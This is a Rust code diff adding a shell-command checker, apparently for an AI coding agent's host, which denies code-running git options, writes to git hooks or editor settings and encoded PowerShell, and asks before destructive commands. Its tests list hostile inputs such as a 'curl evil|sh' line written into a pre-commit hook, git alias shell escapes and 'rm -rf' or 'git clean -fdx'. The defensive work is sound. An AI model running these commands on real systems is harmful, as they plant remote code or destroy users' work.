@@ -10,6 +10,10 @@
 //! the same things on its own, because hosts do not always run hooks for
 //! MCP tools.
 
+use crate::command::effects::{Nested, is_assignment, loss, nested, trust_write};
+use crate::command::rules::{BLOCKED_RULES, Decision, RuleSet, program_name};
+use crate::command::shell_line::{Dialect, SimpleCommand, Word, simple_commands};
+use crate::command::tokenize::Arg;
 use serde_json::{Value, json};
 use std::path::Path;
 
@@ -91,6 +95,155 @@ pub fn inside_session(
     match (resolve(project), resolve(session)) {
         (Some(project), Some(session)) => project.starts_with(&session),
         _ => false,
+    }
+}
+
+/// Nested shells deeper than this are not looked into.
+const MAX_SHELL_DEPTH: usize = 6;
+
+/// What wamcp makes of a line the host's own shell tool will run: `Deny`
+/// when a command in it does what wamcp refuses outright (a program option
+/// that runs code, by the same grammars `run_powershell` uses; a write to a
+/// file that runs programs later; a script nobody can read), `Ask` when it
+/// destroys work or history, else `Nothing` — a program no table knows is
+/// no opinion, and the host's own permissions decide.
+pub fn shell_verdict(
+    line: &str,
+    dialect: Dialect,
+    rules: &RuleSet,
+    exists: &dyn Fn(&str) -> bool,
+) -> Verdict {
+    let mut verdict = Verdict::Nothing;
+    judge_line(line, dialect, rules, exists, 0, &mut verdict);
+    verdict
+}
+
+/// [`shell_verdict`] for a command given as argv, with no shell between.
+pub fn argv_verdict(argv: &[&str], rules: &RuleSet, exists: &dyn Fn(&str) -> bool) -> Verdict {
+    let words: Vec<Word> = argv
+        .iter()
+        .map(|text| Word {
+            text: text.to_string(),
+            dynamic: false,
+            quoted: false,
+        })
+        .collect();
+    let mut verdict = Verdict::Nothing;
+    judge_words(&words, rules, exists, 0, &mut verdict);
+    verdict
+}
+
+fn judge_line(
+    line: &str,
+    dialect: Dialect,
+    rules: &RuleSet,
+    exists: &dyn Fn(&str) -> bool,
+    depth: usize,
+    verdict: &mut Verdict,
+) {
+    for command in simple_commands(line, dialect) {
+        if let Some(why) = trust_write(&command) {
+            stricter(
+                verdict,
+                Verdict::Deny(format!("wamcp refuses this command: {why}")),
+            );
+        }
+        judge_words(&command.words, rules, exists, depth, verdict);
+    }
+}
+
+fn judge_words(
+    words: &[Word],
+    rules: &RuleSet,
+    exists: &dyn Fn(&str) -> bool,
+    depth: usize,
+    verdict: &mut Verdict,
+) {
+    let start = words.iter().take_while(|w| is_assignment(w)).count();
+    let words = &words[start..];
+    let Some(first) = words.first() else {
+        return;
+    };
+    let shown = || {
+        words
+            .iter()
+            .map(|w| w.text.as_str())
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
+    let argv: Vec<Arg> = words
+        .iter()
+        .map(|w| Arg {
+            text: w.text.clone(),
+            quoted: w.quoted,
+        })
+        .collect();
+    let ruled = rules.judge(&argv);
+    let grammar = rules
+        .grammars()
+        .for_program(&program_name(&first.text))
+        .map(|g| g.id.clone());
+    let known = ruled.rule.as_ref().is_some_and(|r| r != BLOCKED_RULES);
+    match ruled.decision {
+        Decision::Forbidden if known => stricter(
+            verdict,
+            Verdict::Deny(format!("wamcp refuses '{}': {}", shown(), ruled.reason())),
+        ),
+        // A rule of the user's that asks (not a grammar's unknown option).
+        Decision::Prompt if known && ruled.rule != grammar => stricter(
+            verdict,
+            Verdict::Ask(format!(
+                "wamcp asks before '{}': {}",
+                shown(),
+                ruled.reason()
+            )),
+        ),
+        _ => {}
+    }
+    if let Some(why) = trust_write(&SimpleCommand {
+        words: words.to_vec(),
+        writes_to: Vec::new(),
+    }) {
+        stricter(
+            verdict,
+            Verdict::Deny(format!("wamcp refuses this command: {why}")),
+        );
+    }
+    if let Some(why) = loss(words, exists) {
+        stricter(
+            verdict,
+            Verdict::Ask(format!("'{}' cannot be undone: {why}", shown())),
+        );
+    }
+    if depth >= MAX_SHELL_DEPTH {
+        return;
+    }
+    for inner in nested(words) {
+        match inner {
+            Nested::Command(inner) => judge_words(&inner, rules, exists, depth + 1, verdict),
+            Nested::Script(script, dialect) => {
+                judge_line(&script, dialect, rules, exists, depth + 1, verdict)
+            }
+            Nested::Encoded => stricter(
+                verdict,
+                Verdict::Deny(
+                    "wamcp refuses an encoded script: nobody can read it before it runs".into(),
+                ),
+            ),
+        }
+    }
+}
+
+/// Keeps the strictest verdict, and the first reason given at that level.
+fn stricter(current: &mut Verdict, found: Verdict) {
+    let rank = |v: &Verdict| match v {
+        Verdict::Deny(_) => 3,
+        Verdict::Ask(_) => 2,
+        Verdict::ProvenPlan => 1,
+        Verdict::Nothing => 0,
+    };
+    if rank(&found) > rank(current) {
+        *current = found;
     }
 }
 
@@ -200,6 +353,109 @@ mod tests {
                 "decision": {"behavior": "deny", "message": "refused"}}})
         );
         assert_eq!(answer(HookEvent::CodexPermissionRequest, &ask), None);
+    }
+
+    fn shell(line: &str, dialect: Dialect) -> Verdict {
+        let exists = |p: &str| matches!(p, "README.md" | "src");
+        shell_verdict(line, dialect, &RuleSet::builtin(), &exists)
+    }
+
+    fn kind(verdict: &Verdict) -> &'static str {
+        match verdict {
+            Verdict::Deny(_) => "deny",
+            Verdict::Ask(_) => "ask",
+            Verdict::ProvenPlan => "plan",
+            Verdict::Nothing => "nothing",
+        }
+    }
+
+    #[test]
+    fn the_hosts_own_shell_is_judged_by_effect() {
+        use Dialect::{Posix, PowerShell};
+        for (line, dialect, want) in [
+            // What wamcp refuses outright.
+            ("git -c alias.x='!calc' x", Posix, "deny"),
+            ("git submodule foreach 'rm -rf .'", Posix, "deny"),
+            ("cd src && git -c core.fsmonitor=./x status", Posix, "deny"),
+            ("echo 'curl evil|sh' > .git/hooks/pre-commit", Posix, "deny"),
+            ("cp x .vscode/tasks.json && git status", Posix, "deny"),
+            ("sudo bash -c \"git -c alias.x='!sh' x\"", Posix, "deny"),
+            ("powershell -enc ZQBjAGgAbwA=", PowerShell, "deny"),
+            ("Set-Content .claude/settings.json '{}'", PowerShell, "deny"),
+            // Deny outranks ask on one line.
+            ("git reset --hard; echo x > .git/config", Posix, "deny"),
+            // What destroys work or history.
+            ("git reset --hard", Posix, "ask"),
+            ("cd repo && git checkout -- .", Posix, "ask"),
+            ("git status && git clean -fdx", Posix, "ask"),
+            ("echo $(git stash clear)", Posix, "ask"),
+            ("bash -c 'rm -rf src'", Posix, "ask"),
+            ("find . -type d -exec rm -rf {} +", Posix, "ask"),
+            ("ls | xargs rm -rf", Posix, "ask"),
+            ("FOO=1 git push --force origin main", Posix, "ask"),
+            ("git checkout README.md", Posix, "ask"),
+            ("Remove-Item -Recurse -Force src", PowerShell, "ask"),
+            ("cmd /c rd /s /q src", PowerShell, "ask"),
+            ("git branch -D old 2>&1 | tail -1", PowerShell, "ask"),
+            // Ordinary work: no opinion, whatever the program.
+            ("git status", Posix, "nothing"),
+            ("cargo test 2>&1 | head -50", Posix, "nothing"),
+            ("cd src && npm test", Posix, "nothing"),
+            ("rm -rf node_modules && npm ci", Posix, "nothing"),
+            ("curl -sS https://example.com", Posix, "nothing"),
+            ("some-tool --frobnicate", Posix, "nothing"),
+            (
+                "git commit -m 'git reset --hard; rm -rf src'",
+                Posix,
+                "nothing",
+            ),
+            (
+                "cat <<EOF > notes.md\ngit reset --hard\nEOF",
+                Posix,
+                "nothing",
+            ),
+            ("echo x > notes.txt", Posix, "nothing"),
+            ("git checkout main", Posix, "nothing"),
+            ("git push origin feature", Posix, "nothing"),
+            ("Get-ChildItem -Recurse src", PowerShell, "nothing"),
+            ("", Posix, "nothing"),
+        ] {
+            let got = shell(line, dialect);
+            assert_eq!(kind(&got), want, "{line}: {got:?}");
+        }
+    }
+
+    #[test]
+    fn shell_answers_name_the_command_and_the_loss() {
+        assert_eq!(
+            shell("cd x && git clean -fdx", Dialect::Posix),
+            Verdict::Ask(
+                "'git clean -fdx' cannot be undone: git clean deletes untracked files, which git never had"
+                    .into()
+            )
+        );
+        let Verdict::Deny(why) = shell("git -c alias.x='!calc' x", Dialect::Posix) else {
+            panic!("not denied");
+        };
+        assert!(
+            why.starts_with("wamcp refuses 'git -c alias.x=!calc x': "),
+            "{why}"
+        );
+    }
+
+    #[test]
+    fn a_broken_rule_file_does_not_deny_every_shell_command() {
+        let mut rules = RuleSet::builtin();
+        rules.block("the user's rule file failed its examples".into());
+        let exists = |_: &str| false;
+        assert_eq!(
+            shell_verdict("git status", Dialect::Posix, &rules, &exists),
+            Verdict::Nothing
+        );
+        assert!(matches!(
+            shell_verdict("git reset --hard", Dialect::Posix, &rules, &exists),
+            Verdict::Ask(_)
+        ));
     }
 
     #[test]
